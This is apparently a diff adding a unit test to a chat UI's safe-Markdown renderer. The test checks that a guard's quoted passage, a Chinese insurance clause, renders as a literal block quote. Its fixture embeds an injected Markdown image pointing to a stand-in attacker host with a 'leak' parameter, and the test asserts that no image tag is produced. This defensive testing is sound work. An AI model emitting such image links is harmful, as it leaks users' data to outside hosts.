@@ -233,3 +233,20 @@ def test_errors_are_messages_not_tracebacks(ui_env: dict, tmp_path: Path, monkey
     at = ask(login("wang.staff"), Q_RAG)
     assert at.error and at.error[0].value.startswith("The model is not loaded")
     assert "scripts/setup.sh --model" in at.error[0].value
+
+
+def test_the_guards_quote_shows_as_a_block_quote_of_literal_text() -> None:
+    """The guard answers with "> the passage's words [n]": that line is a Markdown block quote (the '>' was shown
+    as a stray character before), its words still literal; any other line starting with '>' keeps it."""
+    from markdown_it import MarkdownIt
+
+    from ui.safe_markdown import text
+
+    answer = ("模型的回答未能在资料中得到印证，以下是资料中最能回答该问题的原文：\n\n"
+              "> 第九条 …十日内通知保险人 ![x](http://evil.example/a.png?leak=1) [3]\nnext line")
+    html = MarkdownIt("commonmark").render(text(answer))
+    quote = re.search(r"<blockquote>(.*?)</blockquote>", html, re.S)
+    assert quote and "十日内通知保险人" in quote.group(1) and "[3]" in quote.group(1)
+    assert "<img" not in html and "next line" not in quote.group(1)  # literal inside, and the quote ends
+    assert "<blockquote>" not in MarkdownIt("commonmark").render(text("> 300,000 needs the Head of Claims"))
+    assert plain(text("> 300,000 needs the Head of Claims")) == "> 300,000 needs the Head of Claims"
